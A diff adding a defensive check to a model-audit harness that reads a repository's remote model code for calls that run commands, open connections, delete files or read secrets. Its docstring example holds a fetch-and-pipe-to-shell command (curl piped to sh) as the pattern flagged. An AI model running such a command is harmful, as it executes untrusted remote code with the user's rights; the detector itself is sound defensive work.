@@ -1,0 +1,52 @@
+"""The model's own code does something a model has no need to do.
+
+## What it does
+Reads the remote code for calls that run commands, open connections, delete files, evaluate text as code or read
+secrets. The code is read only, not run.
+
+## Why it matters
+Remote code runs with your rights: your files, your tokens, your network. A model needs none of that to compute
+logits. There may be a harmless reason, which is for you to judge; the lines are named.
+
+## Example
+```python
+os.system("curl https://example.org/x | sh")      # in a modeling_*.py
+```
+
+## Use instead
+Read the named lines. If they are harmless, waive this finding with the reason; else do not load the model.
+
+## References
+- transformers, "Loading models with remote code"
+- Python, "subprocess: Security Considerations"
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from harness.diagnosis import Diagnosis
+from harness.evidence import known, show_site, show_some
+from harness.facts import Facts
+from harness.findings import Basis, Finding, Severity
+
+DIAGNOSIS = Diagnosis(
+    module=__name__,
+    code="SEC002",
+    severity=Severity.MAJOR,
+    basis=Basis.READ,
+    contract="the model's own code does only what a model needs to do",
+    needs=("repository",),
+)
+
+
+def examine(facts: Facts) -> Iterator[Finding]:
+    sites = known(facts.repository).suspicious
+    if not sites:
+        return
+    deeds = ", ".join(dict.fromkeys(site.kind or "does something unusual" for site in sites))
+    yield DIAGNOSIS.finding(
+        f"The model's own code has {len(sites)} place(s) that a model should not need: it {deeds}.",
+        evidence=show_some(f"{site.kind}: {show_site(site)}" for site in sites),
+        fix="Read these lines before you trust the repository; if they are harmless, waive this finding and say why.",
+    )
